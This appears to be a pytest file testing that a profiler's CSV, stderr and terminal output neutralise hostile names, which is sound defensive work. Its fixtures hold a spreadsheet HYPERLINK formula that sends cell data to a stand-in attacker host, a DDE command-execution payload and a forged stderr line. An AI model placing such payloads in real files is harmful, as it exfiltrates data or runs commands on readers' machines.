"""Issue 40, item 7: output that attacks its reader. Names come from the input, so a CSV cell must not be a
spreadsheet formula, and a name must not forge a line of stderr or send escape sequences to the terminal (the
aligned tables and the notes escape it; JSON Lines escapes it by itself). The reproducers are read in place
(../shared/corpus/fuzz-repros-2026-12, README there)."""
from __future__ import annotations

import csv
import io
import json

import pytest

from pyprof.diff.cli import main as diff_main
from pyprof.prof.cli import main as prof_main
from pyprof.prof.table.formats import FORMATS, formula_safe

REPROS = "fuzz-repros-2026-12"
#: The names the reproducer 11 gives its kernel and op, and its module (README: "kernel, op and module names").
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
CMD = "+cmd|' /C calc'!A0"


@pytest.fixture
def repro(shared):
    def path(name: str) -> str:
        p = shared / "corpus" / REPROS / name
        assert p.is_file(), f"reproducer missing: {p}"
        return str(p)
    return path


def _run(main, capsys, *argv) -> tuple[int, str, str]:
    rc = main(list(argv))
    out, err = capsys.readouterr()
    return rc, out, err


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _runs_as_formula(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: it starts with = + - @ (OWASP's list) and is not a number."""
    if not cell or cell[0] not in "=+-@\t\r" or cell == "-":
        return False
    try:
        float(cell.rstrip("%").replace(",", ""))
        return False
    except ValueError:
        return True


@pytest.mark.parametrize("argv", [["--csv"], ["--csv", "-c", "all"], ["--csv", "--view", "all"]],
                         ids=["table", "all-columns", "views"])
def test_csv_formula_names_become_text(repro, capsys, argv):
    rc, out, _ = _run(prof_main, capsys, "-q", *argv, repro("11-csv-formula-prof.dict"))
    assert rc == 0
    cells = _cells(out)
    assert not [c for c in cells if _runs_as_formula(c)]
    # the names are kept, after the quote that makes them text
    assert "'" + HYPERLINK in cells
    if argv != ["--csv", "--view", "all"]:  # the views group by op and kernel, not module
        assert "'" + CMD in cells


def test_diff_csv_formula_names_become_text_and_negative_numbers_stay_numbers(repro, capsys, tmp_path):
    base = repro("11-csv-formula-prof.dict")
    lines = open(base, encoding="utf-8").read().splitlines()
    record = json.loads(lines[1])
    record["kDuration"] = 640  # the new run's kernel takes half the base's 1280 ns: negative deltas
    new = tmp_path / "new.dict"
    new.write_text("\n".join([lines[0], json.dumps(record), lines[2]]) + "\n", encoding="utf-8")
    rc, out, _ = _run(diff_main, capsys, "-q", "--csv", base, str(new))
    assert rc == 0
    cells = _cells(out)
    assert not [c for c in cells if _runs_as_formula(c)]
    assert "'" + HYPERLINK in cells
    # 1280 ns -> 640 ns is -0.00064 ms per step and -50% (one step each side): numbers, written without a quote
    assert "-0.0006" in cells or "-0.00064" in cells, cells
    assert "-50.0" in cells


CASES = [  # value, its CSV cell, why
    (-1.5, "-1.5", "a float keeps its sign"),
    (-3, "-3", "an int too"),
    ("-1.5", "-1.5", "a text that is a number stays a number"),
    ("+3.4%", "+3.4%", "a signed percentage is a number to a spreadsheet"),
    ("-1,234", '"-1,234"', "thousands separators: a number (quoted for its comma)"),
    ("-", "-", "the tables' no-value mark: one character holds no formula"),
    ("=1+2", "'=1+2", "a formula"),
    ("-2+3", "'-2+3", "a sum after a minus: a formula"),
    ("@SUM(A1)", "'@SUM(A1)", "Lotus' @ function prefix"),
    ("+cmd", "'+cmd", "DDE through a plus"),
    ("\tx", "\\tx", "a tab is escaped by printable: the cell starts with a backslash"),
    ("aten::mm", "aten::mm", "an ordinary name is untouched"),
    ("x=1", "x=1", "an = inside a name is no formula"),
]


@pytest.mark.parametrize("value,cell,why", CASES, ids=[c[2] for c in CASES])
def test_csv_cell_rows_and_lines_agree(value, cell, why):
    fmt = FORMATS["csv"]
    buf = io.StringIO()
    f = fmt(buf, ["a", "b"], ["a", "b"])
    f.rows([(value, 1)])
    f.close()
    assert buf.getvalue() == f"{cell},1\n", why
    # the per-kernel table's lines (LineFields) write the same cell
    assert fmt.fields().text(value) == (str(value) if type(value) in (int, float) else cell), why


def test_formula_safe_is_the_one_rule():
    assert formula_safe("=x") == "'=x"
    assert formula_safe("x") == "x"
    assert formula_safe("") == ""


def test_stderr_newline_stays_on_its_line(repro, capsys):
    rc, _, err = _run(prof_main, capsys, "-v", repro("12-stderr-newline-prof.dict"))
    assert rc == 0
    lines = err.splitlines()
    assert lines and all(line.startswith("pyprof prof: ") for line in lines), lines
    # the op name is shown with its line break escaped, on the not-modelled line
    assert any("nosuchop\\nFORGED: this line is not pyprof's" in line for line in lines), lines


def test_an_ordinary_coverage_note_is_unchanged(repro, capsys):
    """The silent side: a name without anything to escape is quoted as it is."""
    rc, _, err = _run(prof_main, capsys, "-v", repro("11-csv-formula-prof.dict"))
    assert rc == 0
    assert f"pyprof prof: not modelled: no formula for {CMD}.{HYPERLINK} 100.0%" in err.splitlines()


@pytest.mark.parametrize("argv", [["-w", "120"], ["-w", "120", "--view", "all"], []],
                         ids=["columns", "views-columns", "space"])
def test_terminal_tables_one_line_per_row_no_escape(repro, capsys, argv):
    rc, out, err = _run(prof_main, capsys, *argv, repro("12-stderr-newline-prof.dict"))
    assert rc == 0
    for line in (out + err).splitlines():
        assert not line.startswith("FORGED"), line
        assert "\x1b" not in line and "\x07" not in line


def test_jsonl_escapes_the_names_itself(repro, capsys):
    rc, out, _ = _run(prof_main, capsys, "-q", "--jsonl", "-c", "op,kernel", repro("12-stderr-newline-prof.dict"))
    assert rc == 0
    rows = out.splitlines()
    assert len(rows) == 1  # the one record: its name's line break stays inside the JSON string
    assert "\x1b" not in out
    assert json.loads(rows[0])["op"].endswith("nosuchop\nFORGED: this line is not pyprof's")
